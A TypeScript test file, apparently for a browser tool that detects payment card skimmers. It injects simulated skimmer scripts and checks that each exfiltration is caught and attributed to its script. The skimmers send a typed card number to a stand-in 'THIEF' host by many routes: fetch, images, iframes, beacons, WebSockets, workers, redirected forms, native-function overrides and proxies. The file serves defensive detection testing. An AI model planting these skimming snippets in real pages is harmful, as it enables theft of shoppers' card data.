import type { BehaviourKind } from '@tillwatch/contract/lists'
import { atDepth } from '@tillwatch/testbed/depth'
import { describe, expect, it } from 'vitest'
import { together } from '../together.ts'
import { browser, shareBrowser } from './shared-browser.ts'
import { cardForm, type Watched, watchPage } from './watch-page.ts'

shareBrowser()

const onChange = (work: string) =>
  `document.getElementById('card').addEventListener('change', async function take() { const pan = this.value; const f = document.getElementById('f'); ${work} })`
const steal = (work: string) => watchPage(browser, { skimmer: onChange(work) })
const kindsOf = ({ behaviours }: Watched, scripts: Set<string>) =>
  new Set(behaviours.filter(({ scriptId }) => scriptId !== null && scripts.has(scriptId)).map(({ kind }) => kind))

/** Ways out that leave the page as it is, with what each is told as. */
const staying: Record<string, { kind: BehaviourKind; work: string }> = {
  'a request object': { kind: 'sends-fetch', work: `fetch(new Request('http://THIEF/a', { method: 'POST', mode: 'no-cors', body: pan }))` },
  'an image written as markup': {
    kind: 'sends-image',
    work: `document.body.insertAdjacentHTML('beforeend', '<img src="http://THIEF/h?' + pan + '">')`,
  },
  'a srcset': { kind: 'sends-image', work: `new Image().srcset = 'http://THIEF/s?' + pan + ' 1x'` },
  'a sound': { kind: 'sends-other', work: `new Audio('http://THIEF/au?' + pan).load()` },
  'a style sheet': {
    kind: 'sends-other',
    work: `const k = document.createElement('link'); k.rel = 'stylesheet'; k.href = 'http://THIEF/l?' + pan; document.head.append(k)`,
  },
  'a script': {
    kind: 'inserts-script',
    work: `const k = document.createElement('SCRIPT'); k.src = 'http://THIEF/s.js?' + pan; document.head.append(k)`,
  },
  'a frame': {
    kind: 'inserts-frame',
    work: `const k = document.createElementNS('http://www.w3.org/1999/xhtml', 'iframe'); k.src = 'http://THIEF/f?' + pan; document.body.append(k)`,
  },
  'an event source': { kind: 'sends-eventsource', work: `new EventSource('http://THIEF/e?' + pan)` },
  'a ping': {
    kind: 'sends-beacon',
    work: `const a = document.createElement('a'); a.href = '#x'; a.ping = 'http://THIEF/p?' + pan; f.append(a); a.click()`,
  },
  'a whole form': {
    kind: 'reads-form',
    work: `fetch('http://THIEF/fd', { method: 'POST', mode: 'no-cors', body: new URLSearchParams(new FormData(f)) })`,
  },
  'a worker': {
    kind: 'sends-fetch',
    work: `new Worker(URL.createObjectURL(new Blob(['onmessage = (e) => fetch("http://THIEF/w", { method: "POST", mode: "no-cors", body: e.data })']))).postMessage(pan)`,
  },
}

/** Ways out that lead away from the page, so that each takes its own visit. */
const leading: [name: string, kind: BehaviourKind, work: string][] = [
  ['an address', 'navigates', `location.href = 'http://THIEF/l?' + pan`],
  ['a form sent elsewhere', 'changes-form-action', `f.setAttribute('action', 'http://THIEF/q'); f.querySelector('button').click()`],
  ['a link', 'navigates', `const a = document.createElement('a'); a.href = 'http://THIEF/l?' + pan; f.append(a); a.click()`],
  ['a window', 'navigates', `open('http://THIEF/w?' + pan)`],
  ['a submitted form', 'sends-form', `f.action = 'http://THIEF/q'; f.requestSubmit()`],
]

/** What a policy of the page stops. */
const stopped: Record<string, string> = {
  'sends-fetch': `fetch('http://THIEF/a?' + pan, { mode: 'no-cors' }).catch(() => 0)`,
  'sends-xhr': `const x = new XMLHttpRequest(); x.open('POST', 'http://THIEF/x'); x.send(pan)`,
  'sends-beacon': `navigator.sendBeacon('http://THIEF/b', pan)`,
  'sends-websocket': `new WebSocket('ws://THIEF/w?' + pan)`,
  'sends-image': `new Image().src = 'http://THIEF/i?' + pan`,
}

describe('a way out is found with its script: ', () => {
  it.each(together(staying))('%s', async (_names, ways) => {
    const watched = await watchPage(browser, { skimmers: ways.map(([, { work }]) => onChange(work)) })
    const told = ways.map(([name, { kind }], at) => {
      const { host, scripts } = watched.each[at]!
      const sighting = watched.canary.sightings.find((one) => one.value === 'card' && one.host === host)
      return {
        name,
        isFound: sighting !== undefined,
        isNamed: scripts.has(sighting?.scriptId ?? ''),
        isTold: kindsOf(watched, scripts).has(kind),
      }
    })
    expect(told).toEqual(ways.map(([name]) => ({ name, isFound: true, isNamed: true, isTold: true })))
    expect(watched.atShop.filter((line) => line.startsWith('POST'))).toEqual([])
  })

  const expectFound = (watched: Watched, kind: BehaviourKind) => {
    const sighting = watched.canary.sightings.find(({ value, host }) => value === 'card' && host === watched.thiefHost)
    expect(sighting).toBeDefined()
    expect(watched.thieves).toContain(sighting?.scriptId)
    expect(kindsOf(watched, watched.thieves)).toContain(kind)
    expect(watched.atShop.filter((line) => line.startsWith('POST'))).toEqual([])
  }

  // Alone: a browser loads such images as it lays the page out, and puts them down to a script that makes it do so.
  it('an image loaded lazily, sends-image', async () => {
    const work = `const k = new Image(); k.loading = 'lazy'; document.body.prepend(k); k.src = 'http://THIEF/z?' + pan`
    expectFound(await steal(work), 'sends-image')
  })

  it.each(atDepth(leading.slice(0, 2), leading))('%s, %s', async (_name, kind, work) => {
    const watched = await steal(work)
    expectFound(watched, kind)
    expect(watched.atThief.filter((line) => !line.startsWith('GET /t.js'))).toEqual([])
  })
})

it.each(together(stopped))('%s is told of though a policy stops it', async (_names, ways) => {
  const watched = await watchPage(browser, {
    skimmers: ways.map(([, work]) => onChange(work)),
    body: `<meta http-equiv="Content-Security-Policy" content="connect-src 'none'; img-src 'none'">${cardForm}`,
  })
  const untold = ways.filter(([kind], at) => ![...kindsOf(watched, watched.each[at]!.scripts)].some((one) => one === kind))
  expect(untold).toEqual([])
})

it('what a script keeps, tells and opens is found with it, and what is kept without a call with what was typed in it', async () => {
  const calls = `localStorage.setItem('a', pan); sessionStorage.getItem('b'); document.cookie = 'c=1'; document.cookie
    parent.postMessage(pan, '*'); new RTCPeerConnection().createDataChannel('x')
    document.body.insertAdjacentHTML('beforeend', '<form action="http://THIEF/x"><input name=cardnumber autocomplete=cc-number></form>')`
  const assigns = `localStorage.kept = btoa(pan); sessionStorage['plain'] = 'x'`
  const watched = await watchPage(browser, { skimmers: [onChange(calls), onChange(assigns)] })
  expect([...kindsOf(watched, watched.each[0]!.scripts)]).toEqual(
    expect.arrayContaining([
      'listens-field',
      'reads-field',
      'writes-storage',
      'reads-storage',
      'writes-cookie',
      'reads-cookie',
      'posts-message',
      'sends-rtc',
      'inserts-form',
      'inserts-field',
    ]),
  )
  // Nobody can be named for an assignment.
  const of = (target: string) => watched.behaviours.filter((one) => one.kind === 'writes-storage' && one.target === target)
  expect(of('kept')).toMatchObject([{ scriptId: null, detail: 'holds the typed card', evidence: 'dom-difference' }])
  expect(of('plain')).toMatchObject([{ scriptId: null, detail: '' }])
})

describe('a native function replaced', () => {
  it('while one types is found, and one by a bound function is put down to its author', async () => {
    const bound = `const own = function mine(...given) { return Reflect.apply(XMLHttpRequest.prototype.abort, this, given) }
      Navigator.prototype.sendBeacon = own.bind(null)`
    const skimmers = [onChange(`HTMLFormElement.prototype.submit = function () {}`), bound]
    const { behaviours, each } = await watchPage(browser, { skimmers })
    const [typing, author] = each.map(({ scripts }) => [...scripts][0])
    const of = (target: string) => behaviours.filter((one) => one.kind === 'overrides-native' && one.target === target)
    expect(of('HTMLFormElement.submit').map(({ scriptId }) => scriptId)).toContain(typing)
    expect(of('Navigator.sendBeacon').map(({ scriptId }) => scriptId)).toContain(author)
  })

  it('while one types by a property of another kind is found, though the page lies about what descriptors hold', async () => {
    const { behaviours, thieves } = await steal(`const real = Navigator.prototype.sendBeacon
      Object.defineProperty(Navigator.prototype, 'sendBeacon', { get: () => () => true })
      Object.prototype.value = real`)
    expect(behaviours).toContainEqual(
      expect.objectContaining({ kind: 'overrides-native', target: 'Navigator.sendBeacon', scriptId: [...thieves][0] }),
    )
  })

  it('by a proxy is found though nobody can be named for it, and the proxy sees no look', async () => {
    const skimmer = `const looks = []; window.looks = looks
      window.fetch = new Proxy(fetch, { get: (t, k) => (looks.push(k), t[k]), ownKeys: (t) => (looks.push('keys'), Reflect.ownKeys(t)), getOwnPropertyDescriptor: (t, k) => (looks.push(k), Reflect.getOwnPropertyDescriptor(t, k)) })
      document.querySelector('button').addEventListener('click', () => navigator.sendBeacon('http://THIEF/looks', JSON.stringify(looks.map(String))))`
    const { behaviours, capture } = await watchPage(browser, { skimmer })
    expect(behaviours).toContainEqual(expect.objectContaining({ kind: 'overrides-native', target: 'window.fetch', scriptId: null }))
    const told = capture.requests.filter(({ url }) => url.endsWith('/looks')).map(({ exchange }) => exchange?.requestBody?.text)
    expect(new Set(told)).toEqual(new Set(['[]']))
  })
})

it('a form made among hundreds of elements with handlers is put down to its maker', async () => {
  const shop = `for (let i = 0; i < ${atDepth(400, 3200)}; i++) { const a = document.createElement('a'); a.setAttribute('onclick', 'go(' + i + ')'); document.body.append(a) }`
  const skimmer = onChange(
    `document.body.insertAdjacentHTML('beforeend', '<form action="http://THIEF/q"><input autocomplete=cc-number></form>')`,
  )
  const watched = await watchPage(browser, { shop, skimmer })
  expect([...kindsOf(watched, watched.thieves)]).toEqual(expect.arrayContaining(['inserts-form', 'inserts-field']))
})

it('what is sent before a card is read is dated before, and a script that reads only at the last key is found, whatever it does between', async () => {
  const early = `const early = () => fetch('http://THIEF/early', { method: 'POST', mode: 'no-cors', body: 'x' })
    document.getElementById('mail').addEventListener('input', early, { once: true })
    document.getElementById('card').addEventListener('change', function () { window.kept = this.value.length })`
  const late = `let keys = 0
    document.getElementById('card').addEventListener('input', function take() {
      keys++
      if (keys > 8 && keys < 14) document.cookie = 'k=' + keys
      if (keys === 16) window.kept = this.value
    })`
  const watched = await watchPage(browser, { skimmers: [early, late] })
  const [ofEarly, ofLate] = watched.each.map(({ scripts }) => scripts)
  const by = watched.behaviours.filter(({ scriptId }) => ofEarly!.has(scriptId ?? ''))
  const sent = by.find((one) => one.kind === 'sends-fetch')
  const read = by.find((one) => one.kind === 'reads-field' && one.fieldKind === 'card-number')
  expect(sent?.phase).toBe('typing')
  expect(sent?.atMs).toBeLessThan(read?.atMs ?? 0)
  expect(kindsOf(watched, ofLate!)).toContain('reads-field')
})
